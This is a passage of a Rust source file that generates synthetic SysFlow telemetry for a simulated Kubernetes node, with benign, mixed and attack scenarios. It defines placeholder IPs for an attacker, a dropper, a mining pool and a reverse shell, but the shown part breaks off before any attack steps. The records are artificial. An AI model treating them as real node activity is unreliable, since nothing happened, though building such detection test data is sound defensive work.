//! A simulated Kubernetes node producing a realistic, referentially consistent record
//! stream (what the collector would export), with an optional attack scenario.

use std::collections::{HashMap, VecDeque};

use sha1::{Digest, Sha1};
use sysflow_plugin_api::abi_stable::std_types::{ROption, RString, RVec};
use sysflow_plugin_api::opflags::*;
use sysflow_plugin_api::records::{
    Container, Event, File, FileEvent, FileFlow, Foid, Header, K8sEvent, KeyValue, NetworkEvent,
    NetworkFlow, ObjectState, Oid, Pod, Port, Process, ProcessEvent, ProcessFlow, Service,
    SysFlowRecord,
};

use crate::rng::Rng;

// Open flags, portable encoding (spec §5).
const O_RDONLY: i32 = 1;
const O_WRONLY: i32 = 2;
const O_RDWR: i32 = 3;
const O_CREAT: i32 = 4;
const O_APPEND: i32 = 8;
const O_NONBLOCK: i32 = 64;
const O_TRUNC: i32 = 256;
const O_DIRECTORY: i32 = 1024;
const O_LARGEFILE: i32 = 2048;
const O_CLOEXEC: i32 = 4096;

const TCP: i32 = 6;
const UDP: i32 = 17;

/// Which kind of activity to generate.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Scenario {
    /// Benign node activity with the attack injected once early and then rarely.
    Mixed,
    /// Mostly the attack, repeated, over a thin benign background.
    Attack,
    /// Benign node activity only.
    Benign,
}

impl std::str::FromStr for Scenario {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "mixed" => Ok(Scenario::Mixed),
            "attack" => Ok(Scenario::Attack),
            "benign" => Ok(Scenario::Benign),
            _ => Err(format!("unknown scenario {s:?} (expected mixed, attack or benign)")),
        }
    }
}

/// Generator settings.
#[derive(Clone, Debug)]
pub struct GenConfig {
    /// Exact number of records to produce (the header counts).
    pub records: u64,
    /// Seed: equal configs give equal record streams.
    pub seed: u64,
    /// Kind of activity.
    pub scenario: Scenario,
    /// Exporter (node) name written in the header.
    pub exporter: String,
    /// Node IP (dotted) written in the header.
    pub ip: String,
    /// Trace file name written in the header (collector side path).
    pub filename: String,
    /// Time of the first record, ns since the epoch.
    pub start_ts: i64,
    /// Start a new segment every this many records (0 = never), as the collector does
    /// on file rotation or socket reconnect: a fresh header, then every entity still in
    /// use re-sent (processes and files as `REUP`) before it is referenced again.
    pub rotate_every: u64,
}

impl Default for GenConfig {
    fn default() -> Self {
        GenConfig {
            records: 10_000,
            seed: 1,
            scenario: Scenario::Mixed,
            exporter: "k8s-worker-1".into(),
            ip: "10.0.1.17".into(),
            filename: "/mnt/data/1732528800".into(),
            start_ts: 1_732_528_800_000_000_000,
            rotate_every: 0,
        }
    }
}

/// Calls `sink` with each generated record, header first, exactly `config.records` times.
pub fn generate(config: &GenConfig, mut sink: impl FnMut(SysFlowRecord)) {
    for rec in Generator::new(config.clone()) {
        sink(rec);
    }
}

/// IPv4 as the little-endian integer the collector writes (spec §5).
pub fn ip_le(a: u8, b: u8, c: u8, d: u8) -> i32 {
    u32::from_le_bytes([a, b, c, d]) as i32
}

fn ip_le64(ip: i32) -> i64 {
    ip as u32 as i64
}

fn parse_ip(s: &str) -> i32 {
    let mut b = [0u8; 4];
    for (i, part) in s.split('.').take(4).enumerate() {
        b[i] = part.parse().unwrap_or(0);
    }
    u32::from_le_bytes(b) as i32
}

fn ip_text(ip: i32) -> String {
    let b = (ip as u32).to_le_bytes();
    format!("{}.{}.{}.{}", b[0], b[1], b[2], b[3])
}

/// The collector's file object id: SHA-1 over container id followed by path.
pub fn foid(container_id: Option<&str>, path: &str) -> Foid {
    let mut h = Sha1::new();
    h.update(container_id.unwrap_or("").as_bytes());
    h.update(path.as_bytes());
    h.finalize().into()
}

/// What a long-lived process does when picked.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Role {
    Systemd,
    Containerd,
    Shim,
    Kubelet,
    Sshd,
    Shell,
    Cron,
    Nginx,
    Gunicorn,
    Redis,
    Postgres,
    CoreDns,
    Miner,
    Tool,
}

struct ProcEntry {
    p: Process,
    role: Role,
    /// Container index (`None` on the host).
    ctr: Option<usize>,
    emitted: bool,
    /// Written in an earlier segment: a re-send is a `REUP`.
    resend: bool,
    alive: bool,
    next_fd: i32,
}

struct FileEntry {
    f: File,
    emitted: bool,
    resend: bool,
}

struct Ctr {
    c: Container,
    pod: Pod,
    ip: i32,
    emitted: bool,
    resend: bool,
    /// Index of the containerd-shim serving it, then of its entry process.
    shim: usize,
    entry: usize,
}

/// Iterator over generated records; see [`generate`].
pub struct Generator {
    cfg: GenConfig,
    rng: Rng,
    now: i64,
    produced: u64,
    yielded: u64,
    queue: VecDeque<SysFlowRecord>,
    procs: Vec<ProcEntry>,
    free_procs: Vec<usize>,
    files: Vec<FileEntry>,
    /// Path → file index, one map per scope (0 = host, i+1 = container i).
    file_index: Vec<HashMap<String, usize>>,
    ctrs: Vec<Ctr>,
    /// Long-lived processes that act on their own, with pick weights.
    actors: Vec<(usize, u64)>,
    actor_weight: u64,
    node_ip: i32,
    next_pid: i64,
    next_attack: u64,
    next_rotation: u64,
    attack_round: u64,
    counter: u64,
    systemd: usize,
    containerd: usize,
    kubelet: usize,
    shells: Vec<usize>,
    cron: usize,
    /// Number of processes of the initial world (stable indices, never recycled).
    world_len: usize,
}

const CLIENTS: [[u8; 4]; 6] = [
    [73, 162, 14, 201],
    [88, 198, 51, 7],
    [151, 101, 1, 69],
    [104, 28, 30, 122],
    [192, 168, 1, 50],
    [10, 0, 1, 1],
];
const API_SERVER: [u8; 4] = [10, 0, 1, 2];
const DNS_SVC: [u8; 4] = [10, 96, 0, 10];
const ATTACKER: [u8; 4] = [185, 220, 101, 47];
const DROPPER: [u8; 4] = [203, 0, 113, 66];
const MINING_POOL: [u8; 4] = [45, 9, 148, 99];
const REVERSE_SHELL: [u8; 4] = [198, 51, 100, 23];

const BASE_ENV: &str = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

struct AppSpec {
    name: &'static str,
    namespace: &'static str,
    image: &'static str,
    exe: &'static str,
    args: &'static str,
    uid: i32,
    user: &'static str,
    worker_args: &'static str,
    workers: usize,
    role: Role,
    port: i32,
    cwd: &'static str,
}

const APPS: [AppSpec; 5] = [
    AppSpec {
        name: "frontend",
        namespace: "shop",
        image: "docker.io/library/nginx:1.25.3",
        exe: "/usr/sbin/nginx",
        args: "-g daemon off;",
        uid: 0,
        user: "root",
        worker_args: "-g daemon off;",
        workers: 2,
        role: Role::Nginx,
        port: 80,
        cwd: "/",
    },
    AppSpec {
        name: "api",
        namespace: "shop",
        image: "registry.example.com/shop/api:2.4.1",
        exe: "/usr/local/bin/python3.11",
        args: "/usr/local/bin/gunicorn app:app -w 2 -b 0.0.0.0:8000",
        uid: 1000,
        user: "app",
        worker_args: "/usr/local/bin/gunicorn app:app -w 2 -b 0.0.0.0:8000",
        workers: 2,
        role: Role::Gunicorn,
        port: 8000,
        cwd: "/app",
    },
    AppSpec {
        name: "redis",
        namespace: "shop",
        image: "docker.io/library/redis:7.2-alpine",
        exe: "/usr/local/bin/redis-server",
        args: "*:6379",
        uid: 999,
        user: "redis",
        worker_args: "",
        workers: 0,
        role: Role::Redis,
        port: 6379,
        cwd: "/data",
    },
    AppSpec {
        name: "postgres",
        namespace: "shop",
        image: "docker.io/library/postgres:16.1",
        exe: "/usr/lib/postgresql/16/bin/postgres",
        args: "-D /var/lib/postgresql/data",
        uid: 999,
        user: "postgres",
        worker_args: "postgres: app shop 10.244.1.12(40112) idle",
        workers: 2,
        role: Role::Postgres,
        port: 5432,
        cwd: "/var/lib/postgresql/data",
    },
    AppSpec {
        name: "coredns",
        namespace: "kube-system",
        image: "registry.k8s.io/coredns/coredns:v1.11.1",
        exe: "/coredns",
        args: "-conf /etc/coredns/Corefile",
        uid: 0,
        user: "root",
        worker_args: "",
        workers: 0,
        role: Role::CoreDns,
        port: 53,
        cwd: "/",
    },
];

const NGINX_FILES: [&str; 6] = [
    "/usr/share/nginx/html/index.html",
    "/usr/share/nginx/html/static/app.js",
    "/usr/share/nginx/html/static/style.css",
    "/usr/share/nginx/html/static/logo.png",
    "/usr/share/nginx/html/favicon.ico",
    "/etc/nginx/conf.d/default.conf",
];
const PY_FILES: [&str; 7] = [
    "/app/app.py",
    "/app/models.py",
    "/app/__pycache__/views.cpython-311.pyc",
    "/usr/local/lib/python3.11/json/__init__.py",
    "/usr/local/lib/python3.11/site-packages/redis/client.py",
    "/etc/hosts",
    "/etc/resolv.conf",
];
const LIBS: [&str; 4] = [
    "/lib/x86_64-linux-gnu/libc.so.6",
    "/lib/x86_64-linux-gnu/libssl.so.3",
    "/lib/x86_64-linux-gnu/libz.so.1",
    "/etc/ld.so.cache",
];
const HOST_READS: [&str; 8] = [
    "/etc/passwd",
    "/etc/group",
    "/etc/nsswitch.conf",
    "/etc/os-release",
    "/etc/kubernetes/kubelet.conf",
    "/var/lib/kubelet/config.yaml",
    "/proc/meminfo",
    "/proc/loadavg",
];

impl Generator {
    /// Builds the simulated node for `cfg`.
    pub fn new(cfg: GenConfig) -> Self {
        let rng = Rng::new(cfg.seed);
        let node_ip = parse_ip(&cfg.ip);
        let now = cfg.start_ts;
        let next_attack = match cfg.scenario {
            Scenario::Benign => u64::MAX,
            Scenario::Mixed => (cfg.records / 3).clamp(50, 1000),
            Scenario::Attack => 60,
        };
        let next_rotation = if cfg.rotate_every == 0 { u64::MAX } else { cfg.rotate_every };
        let mut g = Generator {
            rng,
            now,
            produced: 0,
            yielded: 0,
            queue: VecDeque::with_capacity(256),
            procs: Vec::new(),
            free_procs: Vec::new(),
            files: Vec::new(),
            file_index: vec![HashMap::new()],
            ctrs: Vec::new(),
            actors: Vec::new(),
            actor_weight: 0,
            node_ip,
            next_pid: 20_000,
            next_attack,
            next_rotation,
            attack_round: 0,
            counter: 0,
            systemd: 0,
            containerd: 0,
            kubelet: 0,
            shells: Vec::new(),
            cron: 0,
            world_len: 0,
            cfg,
        };
        g.build_world();
        g.world_len = g.procs.len();
        g
    }

    // ---- world -------------------------------------------------------------------

    fn old_ts(&mut self) -> i64 {
        self.cfg.start_ts - self.rng.range(3_600, 864_000) * 1_000_000_000
    }

    #[allow(clippy::too_many_arguments)]
    fn add_proc(
        &mut self,
        parent: Option<usize>,
        pid: i64,
        create_ts: i64,
        exe: &str,
        args: &str,
        uid: i32,
        user: &str,
        ctr: Option<usize>,
        entry: bool,
        cwd: &str,
        role: Role,
    ) -> usize {
        let poid = parent.map(|i| self.procs[i].p.oid);
        // A child never predates its parent (world processes get random past start times).
        let create_ts = match poid {
            Some(po) if create_ts <= po.create_ts => po.create_ts + self.rng.range(1_000_000, 900_000_000),
            _ => create_ts,
        };
        let container_id = ctr.map(|c| self.ctrs[c].c.id.clone());
        let mut env: RVec<RString> = RVec::new();
        env.push(BASE_ENV.into());
        if let Some(c) = ctr {
            env.push(format!("HOSTNAME={}", self.ctrs[c].pod.name).into());
        }
        env.push(if uid == 0 { "HOME=/root".into() } else { format!("HOME=/home/{user}").into() });
        let p = Process {
            state: ObjectState::Created,
            oid: Oid { create_ts, hpid: pid },
            poid: poid.into(),
            ts: create_ts,
            exe: exe.into(),
            exe_args: args.into(),
            uid,
            user_name: user.into(),
            gid: uid,
            group_name: user.into(),
            tty: role == Role::Shell,
            container_id: container_id.into(),
            entry,
            cwd: cwd.into(),
            env,
        };
        let entry = ProcEntry { p, role, ctr, emitted: false, resend: false, alive: true, next_fd: 3 };
        if let Some(i) = self.free_procs.pop() {
            self.procs[i] = entry;
            i
        } else {
            self.procs.push(entry);
            self.procs.len() - 1
        }
    }

    fn add_actor(&mut self, idx: usize, weight: u64) {
        self.actors.push((idx, weight));
        self.actor_weight += weight;
    }

    fn build_world(&mut self) {
        let boot = self.cfg.start_ts - 1_209_600 * 1_000_000_000;
        let h = None;
        self.systemd = self.add_proc(None, 1, boot, "/usr/lib/systemd/systemd", "--system --deserialize 31", 0, "root", h, true, "/", Role::Systemd);
        let sd = Some(self.systemd);
        let t = self.old_ts();
        self.containerd = self.add_proc(sd, 812, t, "/usr/bin/containerd", "", 0, "root", h, false, "/", Role::Containerd);
        let t = self.old_ts();
        self.kubelet = self.add_proc(sd, 1034, t, "/usr/bin/kubelet", "--config=/var/lib/kubelet/config.yaml --kubeconfig=/etc/kubernetes/kubelet.conf --container-runtime-endpoint=unix:///run/containerd/containerd.sock", 0, "root", h, false, "/", Role::Kubelet);
        let t = self.old_ts();
        let sshd = self.add_proc(sd, 921, t, "/usr/sbin/sshd", "-D", 0, "root", h, false, "/", Role::Sshd);
        let t = self.old_ts();
        self.cron = self.add_proc(sd, 703, t, "/usr/sbin/cron", "-f -P", 0, "root", h, false, "/", Role::Cron);
        let t = self.old_ts();
        let session = self.add_proc(Some(sshd), 41_230, t, "/usr/sbin/sshd", "-D -R", 1000, "ubuntu", h, false, "/", Role::Sshd);
        let t = self.old_ts();
        let bash = self.add_proc(Some(session), 41_288, t, "/usr/bin/bash", "", 1000, "ubuntu", h, false, "/home/ubuntu", Role::Shell);
        self.shells.push(bash);
        for (i, w) in [(self.systemd, 2), (self.containerd, 6), (self.kubelet, 12), (sshd, 2), (self.cron, 1), (bash, 4)] {
            self.add_actor(i, w);
        }

        let mut pid = 3_100;
        for (ai, app) in APPS.iter().enumerate() {
            let cid = self.rng.hex(12);
            let pod_uid = format!(
                "{}-{}-{}-{}-{}",
                self.rng.hex(8),
                self.rng.hex(4),
                self.rng.hex(4),
                self.rng.hex(4),
                self.rng.hex(12)
            );
            let pod_name = if app.namespace == "kube-system" {
                format!("{}-{}-{}", app.name, self.rng.hex(9), self.rng.hex(5))
            } else {
                format!("{}-{}-{}", app.name, self.rng.hex(10), self.rng.hex(5))
            };
            let pod_ip = ip_le(10, 244, 1, 10 + ai as u8);
            let svc_ip = ip_le(10, 96, 12 + ai as u8, (self.rng.below(250) + 2) as u8);
            let mut labels = RVec::new();
            labels.push(KeyValue { key: "app".into(), value: app.name.into() });
            labels.push(KeyValue { key: "pod-template-hash".into(), value: self.rng.hex(10).into() });
            let mut selectors = RVec::new();
            selectors.push(KeyValue { key: "app".into(), value: app.name.into() });
            let mut ports = RVec::new();
            ports.push(Port {
                port: app.port,
                target_port: app.port,
                node_port: if app.port == 80 { 30080 } else { 0 },
                proto: (if app.port == 53 { "UDP" } else { "TCP" }).into(),
            });
            let mut services = RVec::new();
            services.push(Service {
                name: app.name.into(),
                id: format!("{}-{}-{}-{}-{}", self.rng.hex(8), self.rng.hex(4), self.rng.hex(4), self.rng.hex(4), self.rng.hex(12)).into(),
                namespace: app.namespace.into(),
                port_list: ports,
                cluster_ip: vec![ip_le64(svc_ip)].into(),
            });
            let pod = Pod {
                ts: self.cfg.start_ts,
                id: pod_uid.clone().into(),
                name: pod_name.into(),
                node_name: self.cfg.exporter.clone().into(),
                host_ip: vec![ip_le64(self.node_ip)].into(),
                internal_ip: vec![ip_le64(pod_ip)].into(),
                namespace: app.namespace.into(),
                restart_count: 0,
                labels,
                selectors,
                services,
            };
            let c = Container {
                id: cid.clone().into(),
                name: app.name.into(),
                image: app.image.into(),
                imageid: format!("sha256:{}", self.rng.hex(64)).into(),
                container_type: 7, // CT_CONTAINERD
                privileged: false,
                pod_id: ROption::RSome(pod_uid.into()),
            };
            self.ctrs.push(Ctr { c, pod, ip: pod_ip, emitted: false, resend: false, shim: 0, entry: 0 });
            self.file_index.push(HashMap::new());
            let t = self.old_ts();
            let shim_args = format!(
                "-namespace k8s.io -id {}{} -address /run/containerd/containerd.sock",
                cid,
                self.rng.hex(52)
            );
            let shim = self.add_proc(Some(self.containerd), pid, t, "/usr/bin/containerd-shim-runc-v2", &shim_args, 0, "root", None, false, "/run/containerd/io.containerd.runtime.v2.task/k8s.io", Role::Shim);
            let t = t + self.rng.range(50_000_000, 900_000_000);
            let entry = self.add_proc(Some(shim), pid + 20, t, app.exe, app.args, app.uid, app.user, Some(ai), true, app.cwd, app.role);
            self.ctrs[ai].shim = shim;
            self.ctrs[ai].entry = entry;
            self.add_actor(shim, 1);
            self.add_actor(entry, if app.workers == 0 { 10 } else { 3 });
            for w in 0..app.workers {
                let t = t + self.rng.range(10_000_000, 90_000_000);
                let (wu, wn) = if app.role == Role::Nginx { (101, "nginx") } else { (app.uid, app.user) };
                let wargs = if app.role == Role::Nginx { app.args } else { app.worker_args };
                let worker = self.add_proc(Some(entry), pid + 30 + w as i64, t, app.exe, wargs, wu, wn, Some(ai), false, app.cwd, app.role);
                self.add_actor(worker, 10);
            }
            pid += 180;
        }
    }

    // ---- emission ----------------------------------------------------------------

    fn tick(&mut self) -> i64 {
        // ~250 records/s on average: a few thousand records span seconds, as in real traces.
        self.now += self.rng.range(10_000, 8_000_000);
        self.now
    }

    fn push(&mut self, rec: SysFlowRecord) {
        self.produced += 1;
        self.queue.push_back(rec);
    }

    fn push_event(&mut self, e: Event) {
        self.push(SysFlowRecord::Event(e));
    }

    fn ensure_ctr(&mut self, ci: usize) {
        if self.ctrs[ci].emitted {
            return;
        }
        self.ctrs[ci].emitted = true;
        let ts = self.tick();
        let mut pod = self.ctrs[ci].pod.clone();
        pod.ts = ts;
        self.push(SysFlowRecord::Pod(pod));
        if !self.ctrs[ci].resend {
            let msg = self.pod_json(ci, "ADDED");
            let ts = self.tick();
            self.push_event(Event::K8s(K8sEvent { kind: 2, action: 0, ts, message: msg.into() }));
        }
        let c = self.ctrs[ci].c.clone();
        self.push(SysFlowRecord::Container(c));
    }

    fn pod_json(&self, ci: usize, kind: &str) -> String {
        let ctr = &self.ctrs[ci];
        let pod = &ctr.pod;
        let labels: serde_json::Map<String, serde_json::Value> = pod
            .labels
            .iter()
            .map(|kv| (kv.key.to_string(), serde_json::Value::String(kv.value.to_string())))
            .collect();
        let item = serde_json::json!({
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {
                "name": pod.name.as_str(),
                "namespace": pod.namespace.as_str(),
                "uid": pod.id.as_str(),
                "labels": labels,
            },
            "spec": {
                "nodeName": pod.node_name.as_str(),
                "containers": [{"name": ctr.c.name.as_str(), "image": ctr.c.image.as_str()}],
            },
            "status": {
                "phase": "Running",
                "hostIP": ip_text(self.node_ip),
                "podIP": ip_text(ctr.ip),
                "containerStatuses": [{
                    "containerID": format!("containerd://{}", ctr.c.id),
                    "ready": true,
                    "restartCount": pod.restart_count,
                }],
            },
        });
        serde_json::json!({"apiVersion": "v1", "items": [item], "kind": "Pod", "type": kind})
            .to_string()
    }

    fn ensure_proc(&mut self, pi: usize) {
        if self.procs[pi].emitted {
            return;
        }
        // Ancestors first: walk up to the first emitted one, then emit top-down.
        let mut chain = vec![pi];
        let mut cur = pi;
        while let Some(parent) = self.parent_of(cur) {
            if self.procs[parent].emitted {
                break;
            }
            chain.push(parent);
            cur = parent;
        }
        for &i in chain.iter().rev() {
            if let Some(ci) = self.procs[i].ctr {
                self.ensure_ctr(ci);
            }
            self.procs[i].emitted = true;
            let ts = self.tick();
            let mut p = self.procs[i].p.clone();
            p.ts = ts;
            if self.procs[i].resend {
                p.state = ObjectState::Reup;
            }
            self.push(SysFlowRecord::Process(p));
        }
    }

    fn parent_of(&self, pi: usize) -> Option<usize> {
        let poid = self.procs[pi].p.poid.into_option()?;
        // Parents are few and long-lived; a linear scan only runs on (re-)emission.
        // Dead parents of live processes are kept (see `exit`), so re-sends stay complete.
        self.procs.iter().position(|e| e.p.oid == poid)
    }

    /// Index of the file entity for `path` in the scope of container `ctr`, creating it.
    fn file(&mut self, ctr: Option<usize>, path: &str, restype: u8) -> usize {
        let scope = ctr.map_or(0, |c| c + 1);
        if let Some(&i) = self.file_index[scope].get(path) {
            return i;
        }
        let cid = ctr.map(|c| self.ctrs[c].c.id.clone());
        let f = File {
            state: ObjectState::Created,
            oid: foid(cid.as_ref().map(|s| s.as_str()), path),
            ts: 0,
            restype: restype as i32,
            path: path.into(),
            container_id: cid.into(),
        };
        self.files.push(FileEntry { f, emitted: false, resend: false });
        let i = self.files.len() - 1;
        self.file_index[scope].insert(path.to_string(), i);
        i
    }

    fn ensure_file(&mut self, fi: usize) -> Foid {
        if !self.files[fi].emitted {
            self.files[fi].emitted = true;
            let ts = self.tick();
            let mut f = self.files[fi].f.clone();
            f.ts = ts;
            if self.files[fi].resend {
                f.state = ObjectState::Reup;
            }
            self.push(SysFlowRecord::File(f));
        }
        self.files[fi].f.oid
    }

    fn fd(&mut self, pi: usize) -> i32 {
        let e = &mut self.procs[pi];
        let fd = e.next_fd;
        e.next_fd = if fd >= 60 { 3 } else { fd + 1 };
        fd
    }

    /// One file flow of `pi` on `path`.
    #[allow(clippy::too_many_arguments)]
    fn ff(&mut self, pi: usize, path: &str, restype: u8, ops: i32, open_flags: i32, reads: i64, writes: i64, bytes_per_op: i64) {
        self.ensure_proc(pi);
        let ctr = self.procs[pi].ctr;
        let fi = self.file(ctr, path, restype);
        let file_oid = self.ensure_file(fi);
        let fd = self.fd(pi);
        let ts = self.tick();
        let dur = self.rng.range(5_000, 2_000_000) + (reads + writes) * 3_000;
        let jitter = (bytes_per_op / 4).max(1) as u64;
        let rb = if reads > 0 { reads * bytes_per_op - self.rng.below(jitter) as i64 } else { 0 };
        let wb = if writes > 0 { writes * bytes_per_op - self.rng.below(jitter) as i64 } else { 0 };
        let oid = self.procs[pi].p.oid;
        self.push_event(Event::FileFlow(FileFlow {
            proc_oid: oid,
            ts,
            tid: oid.hpid,
            op_flags: ops,
            open_flags,
            end_ts: ts + dur,
            file_oid,
            fd,
            num_r_recv_ops: reads,
            num_w_send_ops: writes,
            num_r_recv_bytes: rb.max(0),
            num_w_send_bytes: wb.max(0),
        }));
    }

    fn read_file(&mut self, pi: usize, path: &str, size: i64) {
        let reads = (size / 4096).clamp(1, 64);
        self.ff(pi, path, b'f', OP_OPEN | OP_READ_RECV | OP_CLOSE, O_RDONLY | O_CLOEXEC, reads, 0, size / reads + 1);
    }

    fn write_file(&mut self, pi: usize, path: &str, size: i64) {
        let writes = (size / 4096).clamp(1, 64);
        self.ff(pi, path, b'f', OP_OPEN | OP_WRITE_SEND | OP_CLOSE, O_WRONLY | O_CREAT | O_TRUNC, 0, writes, size / writes + 1);
    }

    fn map_lib(&mut self, pi: usize) {
        let lib = *self.rng.pick(&LIBS);
        self.ff(pi, lib, b'f', OP_OPEN | OP_MMAP | OP_READ_RECV | OP_CLOSE, O_RDONLY | O_CLOEXEC, 1, 0, 832);
    }

    /// One network flow of `pi`.
    #[allow(clippy::too_many_arguments)]
    fn nf(&mut self, pi: usize, ops: i32, sip: i32, sport: i32, dip: i32, dport: i32, proto: i32, rops: i64, wops: i64, rbytes: i64, wbytes: i64) {
        self.ensure_proc(pi);
        let fd = self.fd(pi);
        let ts = self.tick();
        let dur = self.rng.range(200_000, 40_000_000);
        let oid = self.procs[pi].p.oid;
        self.push_event(Event::NetworkFlow(NetworkFlow {
            proc_oid: oid,
            ts,
            tid: oid.hpid,
            op_flags: ops,
            end_ts: ts + dur,
            sip,
            sport,
            dip,
            dport,
            proto,
            fd,
            num_r_recv_ops: rops,
            num_w_send_ops: wops,
            num_r_recv_bytes: rbytes,
            num_w_send_bytes: wbytes,
        }));
    }

    fn ephemeral(&mut self) -> i32 {
        self.rng.range(32_768, 60_999) as i32
    }

    fn own_ip(&self, pi: usize) -> i32 {
        self.procs[pi].ctr.map_or(self.node_ip, |c| self.ctrs[c].ip)
    }

    fn connect(&mut self, pi: usize, dip: i32, dport: i32, proto: i32, rbytes: i64, wbytes: i64) {
        let sip = self.own_ip(pi);
        let sport = self.ephemeral();
        let rops = (rbytes / 16_384).clamp(1, 512);
        let wops = (wbytes / 16_384).clamp(1, 512);
        self.nf(pi, OP_CONNECT | OP_WRITE_SEND | OP_READ_RECV | OP_CLOSE, sip, sport, dip, dport, proto, rops, wops, rbytes, wbytes);
    }

    fn accept(&mut self, pi: usize, from: i32, port: i32, rbytes: i64, wbytes: i64) {
        let dip = self.own_ip(pi);
        let sport = self.ephemeral();
        let rops = (rbytes / 16_384).clamp(1, 512);
        let wops = (wbytes / 16_384).clamp(1, 512);
        self.nf(pi, OP_ACCEPT | OP_READ_RECV | OP_WRITE_SEND | OP_CLOSE, from, sport, dip, port, TCP, rops, wops, rbytes, wbytes);
    }

    fn dns(&mut self, pi: usize) {
        let d = DNS_SVC;
        self.connect(pi, ip_le(d[0], d[1], d[2], d[3]), 53, UDP, 120, 40);
    }

    fn svc_ip(&self, app: usize) -> i32 {
        self.ctrs[app].pod.services[0].cluster_ip[0] as u32 as i32
    }

    fn proc_event(&mut self, pi: usize, op: i32, ret: i32, args: &[&str]) {
        let ts = self.tick();
        let oid = self.procs[pi].p.oid;
        self.push_event(Event::Process(ProcessEvent {
            proc_oid: oid,
            ts,
            tid: oid.hpid,
            op_flags: op,
            args: args.iter().map(|s| RString::from(*s)).collect(),
            ret,
        }));
    }

    fn file_event(&mut self, pi: usize, op: i32, path: &str, restype: u8, new_path: Option<&str>, ret: i32) {
        self.ensure_proc(pi);
        let ctr = self.procs[pi].ctr;
        let fi = self.file(ctr, path, restype);
        let file_oid = self.ensure_file(fi);
        let new_file_oid = new_path.map(|np| {
            let nfi = self.file(ctr, np, restype);
            self.ensure_file(nfi)
        });
        let ts = self.tick();
        let oid = self.procs[pi].p.oid;
        self.push_event(Event::File(FileEvent {
            proc_oid: oid,
            ts,
            tid: oid.hpid,
            op_flags: op,
            file_oid,
            ret,
            new_file_oid: new_file_oid.into(),
        }));
    }

    /// clone + exec of a child of `parent`: CLONE in the parent (ret = child pid), the
    /// child entity, CLONE in the child (ret 0), the MODIFIED child after exec, EXEC.
    fn spawn(&mut self, parent: usize, exe: &str, args: &str, role: Role) -> usize {
        self.ensure_proc(parent);
        self.next_pid = if self.next_pid >= 4_000_000 { 20_000 } else { self.next_pid + self.rng.range(1, 7) };
        let pid = self.next_pid;
        self.proc_event(parent, OP_CLONE, pid as i32, &[]);
        let ts = self.tick();
        let pe = &self.procs[parent];
        let (pexe, pargs, uid, user, ctr, cwd) = (
            pe.p.exe.clone(),
            pe.p.exe_args.clone(),
            pe.p.uid,
            pe.p.user_name.clone(),
            pe.ctr,
            pe.p.cwd.clone(),
        );
        let child = self.add_proc(Some(parent), pid, ts, &pexe, &pargs, uid, &user, ctr, false, &cwd, role);
        self.procs[child].p.tty = self.procs[parent].p.tty;
        self.procs[child].emitted = true;
        let mut p = self.procs[child].p.clone();
        p.ts = ts;
        self.push(SysFlowRecord::Process(p));
        self.proc_event(child, OP_CLONE, 0, &[]);
        // exec: the loader maps libraries, then the entity is re-sent as MODIFIED.
        {
            let e = &mut self.procs[child];
            e.p.exe = exe.into();
            e.p.exe_args = args.into();
            e.p.state = ObjectState::Modified;
        }
        let ts = self.tick();
        let mut p = self.procs[child].p.clone();
        p.ts = ts;
        self.push(SysFlowRecord::Process(p));
        self.proc_event(child, OP_EXEC, 0, &[]);
        self.map_lib(child);
        child
    }

    fn exit(&mut self, pi: usize, code: i32) {
        self.proc_event(pi, OP_EXIT, code, &[]);
        self.procs[pi].alive = false;
        // A slot whose process still has live children stays, so that re-sends after a
        // rotation can include it as their ancestor.
        let oid = self.procs[pi].p.oid;
        if !self.procs.iter().any(|e| e.alive && e.p.poid.into_option() == Some(oid)) {
            self.free_procs.push(pi);
        }
        self.actors.retain(|&(i, _)| i != pi);
        self.actor_weight = self.actors.iter().map(|&(_, w)| w).sum();
    }

    fn setuid(&mut self, pi: usize, uid: i32, user: &str) {
        {
            let e = &mut self.procs[pi];
            e.p.uid = uid;
            e.p.user_name = user.into();
            e.p.gid = uid;
            e.p.group_name = user.into();
            e.p.state = ObjectState::Modified;
        }
        let ts = self.tick();
        let mut p = self.procs[pi].p.clone();
        p.ts = ts;
        self.push(SysFlowRecord::Process(p));
        let uid_text = uid.to_string();
        self.proc_event(pi, OP_SETUID, 0, &[&uid_text]);
    }

    // ---- activity ----------------------------------------------------------------

    fn step(&mut self) {
        if self.produced == 0 {
            let h = Header {
                version: 5,
                exporter: self.cfg.exporter.as_str().into(),
                ip: self.cfg.ip.as_str().into(),
                filename: self.cfg.filename.as_str().into(),
            };
            self.push(SysFlowRecord::Header(h));
            return;
        }
        if self.produced >= self.next_rotation {
            self.rotate();
            self.next_rotation = self.produced + self.cfg.rotate_every;
            return;
        }
        if self.produced >= self.next_attack {
            self.attack();
            self.attack_round += 1;
            self.next_attack = self.produced
                + match self.cfg.scenario {
                    Scenario::Attack => 150,
                    _ => 250_000,
                };
            return;
        }
        self.counter += 1;
        let r = self.rng.below(1000);
        match r {
            0..=899 => {
                let mut pick = self.rng.below(self.actor_weight.max(1));
                let mut actor = self.actors[0].0;
                for &(i, w) in &self.actors {
                    if pick < w {
                        actor = i;
                        break;
                    }
                    pick -= w;
                }
                self.act(actor);
            }
            900..=969 => self.run_tool(),
            970..=984 => self.file_events(),
            985..=989 => self.k8s_update(),
            990..=993 => self.sudo(),
            994..=996 => self.process_flow(),
            _ => self.network_event(),
        }
    }

    /// New segment: header, and every entity becomes due for a `REUP` re-send.
    fn rotate(&mut self) {
        let dir = self.cfg.filename.rsplit_once('/').map_or("", |(d, _)| d);
        let h = Header {
            version: 5,
            exporter: self.cfg.exporter.as_str().into(),
            ip: self.cfg.ip.as_str().into(),
            filename: format!("{dir}/{}", self.now / 1_000_000_000).into(),
        };
        self.push(SysFlowRecord::Header(h));
        for c in &mut self.ctrs {
            c.resend |= c.emitted;
            c.emitted = false;
        }
        for p in &mut self.procs {
            p.resend |= p.emitted;
            p.emitted = false;
        }
        for f in &mut self.files {
            f.resend |= f.emitted;
            f.emitted = false;
        }
    }

    fn act(&mut self, pi: usize) {
        let role = self.procs[pi].role;
        let ip = |a: [u8; 4]| ip_le(a[0], a[1], a[2], a[3]);
        let roll = self.rng.below(100);
        match role {
            Role::Nginx => {
                if roll < 40 {
